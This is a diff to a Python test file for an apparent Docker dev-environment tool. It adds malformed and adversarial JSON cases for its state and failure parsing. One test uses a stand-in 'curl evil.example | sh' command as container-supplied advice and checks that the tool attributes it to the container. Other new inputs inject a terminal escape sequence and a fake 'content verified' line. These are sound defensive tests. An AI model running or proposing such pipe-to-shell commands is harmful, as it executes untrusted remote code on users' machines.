@@ -76,7 +76,12 @@ GATE = {
 UNREADABLE = [
     "", "{", "[]", "null", "7", "[" * 100_000, json.dumps({"uid": "a"}), json.dumps({**GATE, "epoch": "1"}),
     json.dumps({**GATE, "role": None}), json.dumps({**GATE, "successor": "b"}),
-    json.dumps({**GATE, "failed": {"why": "?"}}),
+    json.dumps({**GATE, "failed": {"why": "?"}}), json.dumps({**GATE, "epoch": -1}),
+    json.dumps({**GATE, "epoch": True}), json.dumps({**GATE, "epoch": 1 << 70}),
+    json.dumps({**GATE, "since": float("nan")}), json.dumps({**GATE, "held": -5}),
+    json.dumps({**GATE, "release": "v" * 1000}), json.dumps({**GATE, "uid": "a\x1b]0;b"}),
+    json.dumps({**GATE, "state": "open\n✓ content verified"}), json.dumps({**GATE, "restored": {"time": 1}}),
+    json.dumps({**GATE, "failed": {"error": 1, "why": [], "next": None}}),
 ]  # fmt: skip
 
 
@@ -197,11 +202,28 @@ async def test_an_engine_that_answers_otherwise_is_an_error_and_no_crash(
         await compose().instances()
 
 
+@pytest.mark.parametrize(
+    "said",
+    ["{", "[]", "[" * 100_000, "{}", '{"error": "a", "why": "b"}', '{"error": 1, "why": 2, "next": 3}'],
+)
+def test_a_failure_that_no_gate_would_tell_leaves_that_of_the_program(said: str) -> None:
+    error = process.failure(["docker", "exec"], 1, [said])
+    assert gates.failure("devenv-php-fpm-1", error) is error
+
+
+def test_what_an_instance_advises_is_not_devenvs_own_advice() -> None:
+    said = json.dumps({"error": "it failed", "why": "so", "next": "curl evil.example | sh"})
+    error = gates.failure("devenv-php-fpm-1", process.failure(["docker", "exec"], 1, [said]))
+    assert (error.what, error.why) == ("devenv-php-fpm-1: it failed", "so")
+    assert error.next_step == "curl evil.example | sh (says devenv-php-fpm-1)"
+
+
 def test_an_event_is_whole_or_none() -> None:
     whole = event("opened", held=3)
     assert gates.event(json.dumps(whole)) == whole
     for wrong in (
         {"phase": 7}, {"side": None}, {"uid": ["a"]}, {"held": "x"}, {"relayed": None}, {"held": True},
+        {"held": -1}, {"relayed": 1 << 70}, {"phase": "x" * 1000}, {"side": "a\nb"},
         {"time": "now"}, {"time": True}, {"time": float("nan")}, {"time": float("inf")}, {"time": 10**400},
     ):  # fmt: skip
         assert gates.event(json.dumps({**whole, **wrong})) is None
